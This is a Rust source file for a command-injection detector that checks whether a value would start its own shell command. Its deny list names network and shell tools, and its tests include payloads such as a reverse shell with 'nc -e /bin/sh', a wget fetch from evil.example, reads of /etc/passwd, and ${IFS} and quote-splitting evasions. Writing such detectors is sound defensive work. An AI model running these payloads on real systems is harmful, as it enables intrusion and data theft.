//! Command injection payloads: would this value, spliced into a shell command, start a
//! command of its own?
//!
//! A command starts after a control operator (`;`, `|`, `&`, `&&`, `||`, a newline) or
//! inside a substitution (`$(..)`, backticks). What starts there must be a program: a
//! name from the commands attackers reach for first (recon, download, reverse shells,
//! interpreters) or an absolute path into a `bin` directory. After a separator the
//! command must also look like one (no argument, an option, a path, a redirection):
//! `dog; cat is nice` is prose, `; cat /etc/passwd` is not. `${IFS}` (a space that
//! survives filters) is an attack on its own.

use crate::verdict::Reason;

/// Programs whose appearance as a command is the point of an injection. A `match`, so
/// the compiler dispatches on length before comparing bytes.
fn is_command(name: &[u8]) -> bool {
    matches!(
        name,
        b"id"
            | b"whoami"
            | b"uname"
            | b"hostname"
            | b"cat"
            | b"tac"
            | b"ls"
            | b"dir"
            | b"pwd"
            | b"ping"
            | b"nc"
            | b"ncat"
            | b"netcat"
            | b"socat"
            | b"telnet"
            | b"wget"
            | b"curl"
            | b"rsh"
            | b"bash"
            | b"sh"
            | b"zsh"
            | b"ksh"
            | b"dash"
            | b"csh"
            | b"tcsh"
            | b"python"
            | b"python2"
            | b"python3"
            | b"perl"
            | b"ruby"
            | b"php"
            | b"node"
            | b"lua"
            | b"echo"
            | b"printf"
            | b"sleep"
            | b"nslookup"
            | b"dig"
            | b"host"
            | b"ifconfig"
            | b"ip"
            | b"netstat"
            | b"ps"
            | b"kill"
            | b"rm"
            | b"mv"
            | b"cp"
            | b"chmod"
            | b"chown"
            | b"touch"
            | b"mkdir"
            | b"head"
            | b"tail"
            | b"more"
            | b"less"
            | b"grep"
            | b"find"
            | b"awk"
            | b"sed"
            | b"xargs"
            | b"env"
            | b"printenv"
            | b"export"
            | b"ssh"
            | b"scp"
            | b"ftp"
            | b"tftp"
            | b"base64"
            | b"xxd"
            | b"od"
            | b"dd"
            | b"tar"
            | b"crontab"
            | b"sudo"
            | b"su"
            | b"passwd"
            | b"useradd"
            | b"timeout"
            | b"eval"
            | b"exec"
            | b"nohup"
            | b"mkfifo"
            | b"powershell"
            | b"pwsh"
            | b"cmd"
            | b"certutil"
            | b"bitsadmin"
            | b"type"
            | b"ipconfig"
            | b"tasklist"
            | b"systeminfo"
            | b"net"
            | b"wmic"
            | b"reg"
            | b"whoami.exe"
            | b"cmd.exe"
            | b"uptime"
    )
}

pub(crate) fn find(value: &[u8]) -> Option<Reason> {
    let operators =
        memchr::memchr3(b';', b'|', b'&', value).is_some() || memchr::memchr2(b'\n', b'\r', value).is_some();
    let substitution = memchr::memchr2(b'`', b'$', value).is_some();
    let found = (operators && after_operators(value)) || (substitution && (in_substitution(value) || ifs_trick(value)));
    found.then_some(Reason::PayloadCommand)
}

fn is_blank(b: u8) -> bool {
    matches!(b, b' ' | b'\t')
}

/// Bytes that can end a command word.
fn ends_word(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'<' | b'>' | b')' | b'`' | b'\'' | b'"')
}

/// Reads a program name at `i` (quotes and backslashes inside it are removed by the
/// shell: `w'h'oami`, `c\at`). Returns (is a program, end). `fold_case`: Windows' `cmd`
/// finds `WHOAMI` too; a POSIX shell runs `head`, never `HEAD` (git's, in prose).
fn program_at(v: &[u8], mut i: usize, fold_case: bool) -> (bool, usize) {
    let mut name = [0u8; 24];
    let mut len = 0;
    let start = i;
    while i < v.len() && len < name.len() {
        let b = v[i];
        if matches!(b, b'\'' | b'"' | b'\\') && i + 1 < v.len() && !ends_word(v[i + 1]) {
            i += 1;
            continue;
        }
        if ends_word(b) {
            break;
        }
        name[len] = if fold_case { b.to_ascii_lowercase() } else { b };
        len += 1;
        i += 1;
    }
    let name = &name[..len];
    let in_bin = [&b"/bin/"[..], b"/usr/bin/", b"/sbin/", b"/usr/sbin/", b"/usr/local/bin/"]
        .iter()
        .any(|dir| name.starts_with(dir) && name.len() > dir.len());
    let known = is_command(name);
    (i > start && (known || in_bin), i)
}

/// After the program name at `end`: does the rest read as a command line?
fn looks_like_command_line(v: &[u8], end: usize) -> bool {
    let mut j = end;
    while j < v.len() && is_blank(v[j]) {
        j += 1;
    }
    match v.get(j) {
        None => true,
        Some(b'-' | b'/' | b'.' | b'$' | b'|' | b'>' | b'<' | b';' | b'&' | b'`' | b'\'' | b'"' | b'\n' | b'\r')
        | Some(b'~' | b'0'..=b'9' | b'#') => true,
        Some(_) => {
            // `curl http://..`, `nc attacker 4444`, `ping -c 1 x`: a URL or a host and a port.
            let word_end = v[j..].iter().position(|&b| ends_word(b)).map_or(v.len(), |p| j + p);
            let word = &v[j..word_end];
            memchr::memmem::find(word, b"://").is_some() || word.iter().any(|&b| b == b'.' || b == b'/' || b == b'=')
        }
    }
}

fn after_operators(v: &[u8]) -> bool {
    // Without line breaks, the operators are three bytes one SIMD search finds: prose
    // is skipped in strides rather than byte by byte.
    let line_breaks = memchr::memchr2(b'\n', b'\r', v).is_some();
    let mut i = 0;
    while i < v.len() {
        if !line_breaks {
            match memchr::memchr3(b';', b'|', b'&', &v[i..]) {
                Some(offset) => i += offset,
                None => break,
            }
        }
        let b = v[i];
        i += 1;
        if !matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r') {
            continue;
        }
        let mut j = i;
        while j < v.len() && (is_blank(v[j]) || matches!(v[j], b'|' | b'&' | b'{' | b'(' | b'!')) {
            j += 1;
        }
        let (program, end) = program_at(v, j, true);
        if program && looks_like_command_line(v, end) {
            return true;
        }
        i = i.max(j);
    }
    false
}

/// `$(cmd)` and `` `cmd` ``.
fn in_substitution(v: &[u8]) -> bool {
    let letters = Letters::of(v);
    let mut i = 0;
    while i < v.len() {
        let start = match v[i] {
            b'`' if code_span_in_prose(v, i, &letters) => {
                // Skip the whole span: its closing backtick opens nothing.
                i = memchr::memchr(b'`', &v[i + 1..]).map_or(v.len(), |p| i + p + 2);
                continue;
            }
            b'`' => i + 1,
            b'$' if v.get(i + 1) == Some(&b'(') && v.get(i + 2) != Some(&b'(') => i + 2,
            _ => {
                i += 1;
                continue;
            }
        };
        let mut j = start;
        while j < v.len() && is_blank(v[j]) {
            j += 1;
        }
        // Substitutions are POSIX shell syntax: names are case-sensitive.
        let (program, end) = program_at(v, j, false);
        if program && (matches!(v.get(end), Some(b'`' | b')')) || looks_like_command_line(v, end)) {
            return true;
        }
        i = start.max(j);
    }
    false
}

/// Where the words of a value are, found once per value so that judging each backtick
/// stays constant-time: where the first two-letter word ends and where the last letter is.
struct Letters {
    first_word_end: Option<usize>,
    last_letter: Option<usize>,
}

impl Letters {
    fn of(v: &[u8]) -> Letters {
        Letters {
            first_word_end: v
                .windows(2)
                .position(|w| w[0].is_ascii_alphabetic() && w[1].is_ascii_alphabetic())
                .map(|p| p + 1),
            last_letter: v.iter().rposition(u8::is_ascii_alphabetic),
        }
    }
}

/// Is the backtick at `open` a Markdown code span inside a sentence (``like `cat`):``,
/// ``Display help for `ls`.``)? Text both before and after it, the span set off by a
/// space or an opening bracket, and the sentence going on after it. A payload
/// is the substitution itself, glued to data or an operator (`` `id` ``, ``x`id` ``,
/// ``; `whoami` ``).
fn code_span_in_prose(v: &[u8], open: usize, letters: &Letters) -> bool {
    let Some(len) = memchr::memchr(b'`', &v[open + 1..]) else {
        return false;
    };
    let close = open + 1 + len;
    let before = &v[..open];
    let set_off = before.last().is_some_and(|&b| matches!(b, b' ' | b'(' | b'"'));
    let words_before = letters.first_word_end.is_some_and(|end| end < open);
    // Punctuation of a sentence or a parenthetical right after it, or more words.
    let goes_on = match v.get(close + 1) {
        Some(b')' | b':' | b',' | b'.' | b'"') => true,
        Some(b' ') => letters.last_letter.is_some_and(|last| last > close),
        _ => false,
    };
    // Each run of spaces is read for the one backtick that follows it: linear in all.
    let operator_before = before.iter().rev().find(|&&b| b != b' ').is_some_and(|&b| matches!(b, b';' | b'|' | b'&'));
    set_off && words_before && goes_on && !operator_before
}

/// `cat${IFS}/etc/passwd`, `$IFS$9`.
fn ifs_trick(v: &[u8]) -> bool {
    // memchr, not memmem: building a substring searcher costs more than a short value.
    memchr::memchr_iter(b'$', v).any(|i| {
        let rest = &v[i + 1..];
        rest.starts_with(b"{IFS}") || rest.starts_with(b"IFS$")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks() {
        for v in [
            "127.0.0.1; cat /etc/passwd",
            "x | id",
            "a && whoami",
            "$(whoami)",
            "`id`",
            "foo\nwget http://evil.example/x.sh",
            ";w'h'oami",
            "|| /bin/sh -i",
            "; nc -e /bin/sh 10.0.0.1 4444",
            "cat${IFS}/etc/passwd",
            "& ping -n 10 127.0.0.1 &",
            "name`id`",
            "x `id`",
            "; `whoami` now",
            "`cat /etc/passwd` please",
        ] {
            assert!(find(v.as_bytes()).is_some(), "missed {v:?}");
        }
    }

    #[test]
    fn prose() {
        for v in [
            "Tom & Jerry",
            "I have a dog; cat is also nice",
            "salt & pepper; ping me later",
            "use the `map` function",
            "rock | roll",
            "R&D department",
            "$(5) off",
            "Display a file's content from an archive to `stdout` (like `cat`):",
            "Execute the `ls` program literally, even if an `ls` alias exists:",
            "View logs and follow new output (like `tail --follow`):",
            "Inspect colorized output from another command (e.g., `ls`), then quit",
            "Reset a file to `HEAD`",
        ] {
            assert!(find(v.as_bytes()).is_none(), "flagged {v:?}");
        }
    }
}
